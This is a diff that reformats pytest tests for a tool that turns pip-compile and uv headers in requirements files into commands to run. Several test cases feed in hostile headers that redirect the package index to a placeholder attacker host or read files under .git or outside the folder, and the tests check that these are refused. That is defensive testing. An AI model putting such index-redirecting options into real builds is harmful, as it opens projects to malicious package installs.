@@ -325,19 +325,53 @@ def test_one_file_patched_twice_is_refused(tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     ("tool", "header", "argv"),
     [
-        ("pip-compile", "pip-compile --generate-hashes --output-file=requirements.txt requirements.in",
-         ("pip-compile", "--generate-hashes", "--output-file=requirements.txt", "requirements.in")),
-        ("pip-compile", "pip-compile -o ./requirements.txt in/prod.in --resolver backtracking -c c.txt",
-         ("pip-compile", "-o", "./requirements.txt", "in/prod.in", "--resolver", "backtracking",
-          "-c", "c.txt")),
+        (
+            "pip-compile",
+            "pip-compile --generate-hashes --output-file=requirements.txt requirements.in",
+            (
+                "pip-compile",
+                "--generate-hashes",
+                "--output-file=requirements.txt",
+                "requirements.in",
+            ),
+        ),
+        (
+            "pip-compile",
+            "pip-compile -o ./requirements.txt in/prod.in --resolver backtracking -c c.txt",
+            (
+                "pip-compile",
+                "-o",
+                "./requirements.txt",
+                "in/prod.in",
+                "--resolver",
+                "backtracking",
+                "-c",
+                "c.txt",
+            ),
+        ),
         ("pip-compile", "pip-compile requirements.in", ("pip-compile", "requirements.in")),
         ("pip-compile", "pip-compile pyproject.toml", ("pip-compile", "pyproject.toml")),
         ("pip-compile", "pip-compile --no-index", ("pip-compile", "--no-index")),  # requirements.in
-        ("uv pip compile", "uv pip compile requirements.in -o requirements.txt --python-version 3.11 --universal",
-         ("uv", "pip", "compile", "requirements.in", "-o", "requirements.txt", "--python-version",
-          "3.11", "--universal")),
-        ("uv export", "uv export --frozen --no-hashes --output-file requirements.txt",
-         ("uv", "export", "--frozen", "--no-hashes", "--output-file", "requirements.txt")),
+        (
+            "uv pip compile",
+            "uv pip compile requirements.in -o requirements.txt --python-version 3.11 --universal",
+            (
+                "uv",
+                "pip",
+                "compile",
+                "requirements.in",
+                "-o",
+                "requirements.txt",
+                "--python-version",
+                "3.11",
+                "--universal",
+            ),
+        ),
+        (
+            "uv export",
+            "uv export --frozen --no-hashes --output-file requirements.txt",
+            ("uv", "export", "--frozen", "--no-hashes", "--output-file", "requirements.txt"),
+        ),
     ],
 )
 def test_a_header_of_known_options_becomes_the_command(
@@ -380,8 +414,11 @@ UPC = "uv pip compile -o requirements.txt"
 @pytest.mark.parametrize(
     ("tool", "header", "why"),
     [
-        ("pip-compile", f"{PIN} --extra-index-url={EVIL} --trusted-host=attacker.example r.in",
-         "--extra-index-url"),
+        (
+            "pip-compile",
+            f"{PIN} --extra-index-url={EVIL} --trusted-host=attacker.example r.in",
+            "--extra-index-url",
+        ),
         ("pip-compile", f"{PIN} -i {EVIL} requirements.in", "-i"),
         ("pip-compile", f"{PIN} --index-url {EVIL} requirements.in", "--index-url"),
         ("pip-compile", f"{PIN} -f {EVIL} requirements.in", "-f"),
@@ -389,8 +426,11 @@ UPC = "uv pip compile -o requirements.txt"
         ("pip-compile", f"{PIN} --trusted-host attacker.example requirements.in", "--trusted-host"),
         ("uv pip compile", f"{UPC} --index {EVIL} requirements.in", "--index"),
         ("uv pip compile", f"{UPC} --default-index={EVIL} requirements.in", "--default-index"),
-        ("uv pip compile", f"{UPC} --index-strategy unsafe-best-match requirements.in",
-         "--index-strategy"),
+        (
+            "uv pip compile",
+            f"{UPC} --index-strategy unsafe-best-match requirements.in",
+            "--index-strategy",
+        ),
         ("uv pip compile", f"{UPC} --extra-index-url {EVIL} requirements.in", "--extra-index-url"),
     ],
 )
@@ -415,8 +455,10 @@ def test_a_header_never_chooses_the_index(tmp_path: Path, tool: str, header: str
         ("pip-compile other.in", "its output"),  # pip-compile writes other.txt
         ("pip-compile", "pip-compile would run setup.py"),  # no requirements.in, a setup.py
         ("pip-compile -o requirements.txt -c .git/config.txt requirements.in", "under .git"),
-        ("pip-compile -o requirements.txt --constraint=sub/.GIT/x.txt requirements.in",
-         "under .git"),
+        (
+            "pip-compile -o requirements.txt --constraint=sub/.GIT/x.txt requirements.in",
+            "under .git",
+        ),
         ("pip-compile -o requirements.txt .git/x.in", "under .git"),
         ("pip-compile -o requirements.txt -c gitlink/config.txt requirements.in", "under .git"),
         ("pip-compile -o requirements.txt -c out/secret.txt requirements.in", "leading out"),
@@ -449,8 +491,10 @@ def test_a_header_command_writes_only_its_file_and_reads_inside_its_folder(
     (repo / "gitlink").symlink_to(repo / ".git", target_is_directory=True)
     if header != "pip-compile":
         (repo / "requirements.in").write_text("ddtrace\n")
-    tool = "uv export" if header.startswith("uv export") else (
-        "uv pip compile" if header.startswith("uv pip") else "pip-compile"
+    tool = (
+        "uv export"
+        if header.startswith("uv export")
+        else ("uv pip compile" if header.startswith("uv pip") else "pip-compile")
     )
     path = repo / "requirements.txt"
     assert compile_commands(CompiledHeader(tool, header, "3.12"), path, TARGETS) == []
@@ -469,7 +513,12 @@ def test_a_header_command_runs_in_the_folder_of_its_file(tmp_path: Path) -> None
         CompiledHeader("pip-compile", "pip-compile -o prod.txt prod.in", "3.12"), path, TARGETS
     )
     assert command.argv == (
-        "pip-compile", "-o", "prod.txt", "prod.in", "--upgrade-package", "ddtrace==4.6.0"
+        "pip-compile",
+        "-o",
+        "prod.txt",
+        "prod.in",
+        "--upgrade-package",
+        "ddtrace==4.6.0",
     )
     assert (command.cwd, command.file) == (folder, path)
     rooted = "pip-compile -o requirements/prod.txt requirements/prod.in"
